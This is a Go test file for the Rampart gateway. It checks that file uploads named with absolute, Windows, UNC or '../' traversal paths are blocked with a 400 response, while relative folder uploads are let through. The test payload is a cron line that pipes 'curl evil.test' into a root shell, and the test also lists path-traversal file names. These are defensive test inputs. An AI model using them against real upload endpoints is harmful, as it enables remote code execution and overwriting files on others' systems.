package gateway

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"mime/multipart"
	"net/http"
	"net/textproto"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/rampartproxy/rampart/internal/config"
)

// upload is a multipart body with one file part named name, written as
// a client may write it (the name in the header as is).
func upload(name string) (body []byte, contentType string) {
	var b bytes.Buffer
	w := multipart.NewWriter(&b)
	h := textproto.MIMEHeader{}
	h.Set("Content-Disposition", `form-data; name="file"; filename="`+name+`"`)
	h.Set("Content-Type", "text/plain")
	p, _ := w.CreatePart(h)
	_, _ = io.WriteString(p, "* * * * * root curl evil.test | sh\n")
	w.Close()
	return b.Bytes(), w.FormDataContentType()
}

// TestUploadPathsNeverReachTheApp: uploader.py saves under the client's
// file name. Straight from gunicorn an absolute name writes outside its
// folder (Werkzeug passes it as sent); through Rampart, with the WAF off
// and on, every name that is a path gets 400 and nothing is written,
// while a browser's folder upload (a relative path) goes through.
func TestUploadPathsNeverReachTheApp(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	folder, outside := filepath.Join(dir, "uploads"), filepath.Join(dir, "outside")
	for _, d := range []string{folder, outside} {
		if err := os.Mkdir(d, 0o700); err != nil {
			t.Fatal(err)
		}
	}
	app := runGunicorn(t, "uploader:app", gunicornOptions{worker: "gthread", env: []string{"UPLOAD_DIR=" + folder}})
	// The premise: straight to the app, an absolute name lands outside.
	target := filepath.Join(outside, "cron-direct")
	body, ct := upload(target)
	c, err := app.dial()
	if err != nil {
		t.Fatal(err)
	}
	r := exchange(t, c, fmt.Sprintf("POST /upload HTTP/1.1\r\nHost: localhost\r\nContent-Type: %s\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s", ct, len(body), body))
	c.Close()
	if _, err := os.Stat(target); r.status != 200 || err != nil {
		t.Fatalf("straight from gunicorn the app did not write %s (the premise): %d %s", target, r.status, r.body)
	}
	for _, waf := range []string{"off", "block"} {
		site := siteFor(app.upstream())
		site.WAF = config.WAF{Mode: waf}
		tg := startGateway(t, config.Config{Sites: []config.Site{site}})
		send := func(name string) (int, string) {
			body, ct := upload(name)
			resp, err := tg.client(false).Post("https://localhost/upload", ct, bytes.NewReader(body))
			if err != nil {
				t.Fatal(err)
			}
			defer resp.Body.Close()
			b, _ := io.ReadAll(resp.Body)
			return resp.StatusCode, resp.Header.Get("Rampart-Reason") + " " + string(b)
		}
		for _, name := range []string{
			filepath.Join(outside, "cron-"+waf),
			`C:\Windows\System32\cron-` + waf,
			`c:cron-` + waf,
			`\\fileserver\share\cron-` + waf,
			`\etc\cron.d\x-` + waf,
			`../outside/cron-` + waf,
			`photos/../../outside/cron-` + waf,
			`..\outside\cron-` + waf,
		} {
			code, said := send(name)
			if code != http.StatusBadRequest || !strings.HasPrefix(said, "upload_path; allow-with=guards.insecure_upload_paths") {
				t.Errorf("WAF %s, file name %q: %d %.200s", waf, name, code, said)
			}
		}
		code, said := send("photos/2024/" + waf + ".txt")
		var got struct{ Saved []string }
		if code != 200 || json.Unmarshal([]byte(strings.TrimSpace(said)), &got) != nil || len(got.Saved) != 1 || !strings.HasPrefix(got.Saved[0], folder) {
			t.Errorf("WAF %s, a folder upload: %d %.300s", waf, code, said)
		}
	}
	entries, _ := os.ReadDir(outside)
	if len(entries) != 1 {
		var names []string
		for _, e := range entries {
			names = append(names, e.Name())
		}
		t.Errorf("files written outside the upload folder through Rampart: %v", names)
	}
}
